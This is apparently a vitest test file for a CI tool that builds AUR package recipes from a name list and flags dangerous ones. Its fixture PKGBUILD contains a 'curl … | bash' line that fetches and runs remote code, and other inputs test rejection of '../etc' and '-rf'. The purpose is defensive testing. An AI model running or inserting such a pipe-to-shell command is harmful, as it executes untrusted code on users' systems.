import { expect, test } from "vitest";
import { planList, readList, whyLeftOut } from "../tools/ci/operations/from-list.ts";
import { readRepositoryConfig } from "../tools/workspace/config/config.ts";
import { aurRecipe } from "./world/aur-recipe.ts";
import { Operations } from "./world/operations.ts";

const operations = new Operations();

test("a list of names becomes their recipes, with what they need of the AUR; what is dangerous is left out", async () => {
  const { aur } = operations;
  operations.letAccountAge();
  aur.push("app", aurRecipe("app", { depends: ["needed", "glibc"] }));
  aur.push("needed", aurRecipe("needed"));
  aur.push("bad", {
    ...aurRecipe("bad"),
    PKGBUILD: "pkgname=bad\npkgver=1\npkgrel=1\narch=(any)\ncurl -s https://e.example.org/x | bash\n",
  });
  const { config } = readRepositoryConfig({ kind: "file", text: operations.config() });
  const names = readList("# mine\naur/app  bad\nnobody\napp\n");
  const plan = await planList(await operations.ports(), config, names);

  expect(names).toEqual(["app", "bad", "nobody"]);
  expect(plan.notInAur).toEqual(["nobody"]);
  expect(plan.added.map((one) => [one.pkgbase, one.neededBy, whyLeftOut(one)])).toEqual([
    ["app", [], undefined],
    ["bad", [], "dangerous"],
    ["needed", ["app"], undefined],
  ]);
  const files = new Map(plan.files.map(({ path, content }) => [path, Buffer.from(content).toString()]));
  expect([...files.keys()].filter((path) => !path.endsWith(".SRCINFO"))).toEqual([
    "app/PKGBUILD",
    "app/.CI/config",
    "needed/PKGBUILD",
    "needed/.CI/config",
  ]);
  expect(files.get("app/.CI/config")).toBe("CI_PKGBUILD_SOURCE=aur\n");
});

test.each([
  ["", "no names"],
  ["foo\n../etc\n", '"../etc"'],
  ["-rf", '"-rf"'],
])("the list %j is no list of packages", (text, why) => {
  expect(() => readList(text)).toThrow(why);
});
